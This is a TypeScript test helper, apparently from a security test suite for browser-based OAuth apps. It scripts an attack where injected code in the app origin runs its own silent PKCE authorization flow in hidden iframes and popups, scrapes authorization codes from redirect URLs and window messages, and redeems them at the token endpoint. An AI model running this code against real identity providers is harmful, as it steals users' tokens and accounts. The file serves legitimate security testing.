import type { Page } from '@playwright/test';
import type { FastifyInstance } from 'fastify';
import { opForm } from './devHostQueries.js';

/** One authorization request the attacker ran, and every URL its script could read where the OP sent the answer. */
export interface Attempt {
  redirectUri: string;
  how: 'iframe' | 'popup';
  verifier: string;
  /** What `contentWindow.location.href` / `popup.location.href` gave ("cross-origin" where the browser refused). */
  read: string[];
}

/**
 * THE attack of RFC 10017 §5.1.3, as script in the app origin runs it: its own Authorization Code +
 * PKCE request with `prompt=none` (the user has a session at the OP), in a hidden iframe and in a
 * popup, for each redirect URI given, reading wherever the answer lands and every message the
 * app's window receives. Runs in the page; returns what the attacker holds.
 */
export interface OwnFlowOptions {
  op: string;
  clientId: string;
  redirectUris: string[];
  scope: string;
  /** `'none'` (default): the user's OP session answers at once; `null`: no prompt (a client the user never used: the dev OP grants consent without a page). */
  prompt?: 'none' | null;
  /** Where the answer is made to land: default both, a hidden iframe and a popup. */
  via?: ('iframe' | 'popup')[];
  /** How long each attempt is watched, in milliseconds (default 2500; a flow through the consent step takes longer). */
  watchMs?: number;
}

/** The attacker's script, run in the app page (Playwright's evaluate, or its source through WebDriver). */
export async function ownFlowInPage({
  op,
  clientId,
  redirectUris,
  scope,
  prompt = 'none',
  via = ['iframe', 'popup'],
  watchMs = 2500,
}: OwnFlowOptions): Promise<{ attempts: Attempt[]; received: string[] }> {
  const b64 = (bytes: Uint8Array): string =>
    btoa(String.fromCharCode(...bytes))
      .replace(/\+/g, '-')
      .replace(/\//g, '_')
      .replace(/=+$/, '');
  const received: string[] = [];
  window.addEventListener('message', (event) => received.push(`${event.origin} ${JSON.stringify(event.data)}`));
  const watch = async (location: () => string): Promise<string[]> => {
    const read = new Set<string>();
    for (let i = 0; i < watchMs / 100; i++) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      try {
        read.add(location());
      } catch {
        read.add('cross-origin');
      }
    }
    return [...read];
  };
  // Every attempt at once (the attacker is in no hurry to be polite): each watched for `watchMs`.
  const attempt = async (redirectUri: string, how: 'iframe' | 'popup'): Promise<Attempt> => {
    const verifier = b64(crypto.getRandomValues(new Uint8Array(32)));
    const challenge = b64(new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))));
    const url = new URL(`${op}/auth`);
    url.search = new URLSearchParams({
      client_id: clientId,
      redirect_uri: redirectUri,
      response_type: 'code',
      scope,
      ...(prompt ? { prompt } : {}),
      code_challenge: challenge,
      code_challenge_method: 'S256',
      state: 'attacker',
      nonce: 'attacker',
    }).toString();
    if (how === 'iframe') {
      const iframe = document.createElement('iframe');
      iframe.src = url.href;
      document.body.append(iframe);
      const read = await watch(() => {
        // A detached frame counts as unreadable, like a cross-origin one.
        if (!iframe.contentWindow) throw new Error('the frame is gone');
        return iframe.contentWindow.location.href;
      });
      iframe.remove();
      return { redirectUri, how, verifier, read };
    }
    const popup = window.open(url.href, '_blank', 'popup');
    const read = popup ? await watch(() => popup.location.href) : ['blocked'];
    popup?.close();
    return { redirectUri, how, verifier, read };
  };
  const attempts: Attempt[] = await Promise.all(redirectUris.flatMap((redirectUri) => via.map((how) => attempt(redirectUri, how))));
  return { attempts, received };
}

export async function runOwnFlowInAppOrigin(page: Page, options: OwnFlowOptions): Promise<{ attempts: Attempt[]; received: string[] }> {
  return page.evaluate(ownFlowInPage, options);
}

/**
 * The attacker's server (outside the browser, no CORS): redeems every code its script could read,
 * with that request's verifier. Returns the token responses it obtained.
 */
export async function redeemElsewhere(devHost: FastifyInstance, clientId: string, loot: { attempts: Attempt[]; received: string[] }): Promise<Record<string, unknown>[]> {
  const obtained: Record<string, unknown>[] = [];
  const tries: { code: string; verifier: string; redirectUri: string }[] = [];
  for (const attempt of loot.attempts) {
    for (const href of attempt.read) {
      const code = URL.canParse(href) ? new URL(href).searchParams.get('code') : null;
      if (code) tries.push({ code, verifier: attempt.verifier, redirectUri: attempt.redirectUri });
    }
  }
  // Any code-looking value in a message the app's window received, tried with every verifier.
  for (const message of loot.received) {
    for (const match of message.matchAll(/code=([\w-]+)|"code":"([\w-]+)"/g)) {
      for (const attempt of loot.attempts) tries.push({ code: match[1] || match[2], verifier: attempt.verifier, redirectUri: attempt.redirectUri });
    }
  }
  for (const { code, verifier, redirectUri } of tries) {
    const { status, body } = await opForm(devHost, '/token', { grant_type: 'authorization_code', code, code_verifier: verifier, redirect_uri: redirectUri, client_id: clientId });
    if (status === 200) obtained.push(body);
  }
  return obtained;
}
